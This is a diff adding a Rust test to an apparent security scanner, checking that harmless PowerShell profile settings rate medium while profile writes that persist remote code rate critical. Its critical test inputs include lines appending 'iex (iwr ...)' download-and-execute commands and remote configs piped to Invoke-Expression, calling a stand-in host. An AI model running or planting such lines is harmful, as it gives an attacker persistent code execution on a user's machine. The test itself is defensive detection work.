@@ -1274,3 +1274,26 @@ fn a_project_npmrc_written_and_a_quote_shown_as_a_lure() {
         "{plain:?}"
     );
 }
+
+/// A setting added to the PowerShell profile is `medium`, as one added to `~/.bashrc`; code that fetches, a module
+/// from a path, or anything else stays critical.
+#[test]
+fn a_setting_in_the_powershell_profile() {
+    for line in [
+        "Add-Content -Path $PROFILE -Value 'Import-Module posh-git'",
+        "Add-Content -Path $PROFILE -Value 'Set-PSReadLineOption -PredictionSource History'",
+        "Add-Content -Path $PROFILE -Value 'oh-my-posh init pwsh --config \"$env:POSH_THEMES_PATH\\jandedobbeleer.omp.json\" | Invoke-Expression'",
+    ] {
+        let found = run(FileKind::Script, "setup.ps1", &format!("{line}\n"));
+        assert_eq!(level("persist/shell-rc", &found), Some(Severity::Medium), "{line}: {found:?}");
+    }
+    for line in [
+        "Add-Content -Path $PROFILE -Value 'Import-Module C:\\Users\\me\\AppData\\x.psm1'",
+        "Add-Content -Path $PROFILE -Value 'iex (iwr https://h.example.net/p.ps1)'",
+        "Add-Content -Path $PROFILE -Value 'oh-my-posh init pwsh --config https://h.example.net/t.json | Invoke-Expression'",
+        "Add-Content -Path $PROFILE -Value 'Import-Module posh-git; iex (iwr https://h.example.net/p.ps1)'",
+    ] {
+        let found = run(FileKind::Script, "setup.ps1", &format!("{line}\n"));
+        assert_eq!(level("persist/shell-rc", &found), Some(Severity::Critical), "{line}: {found:?}");
+    }
+}
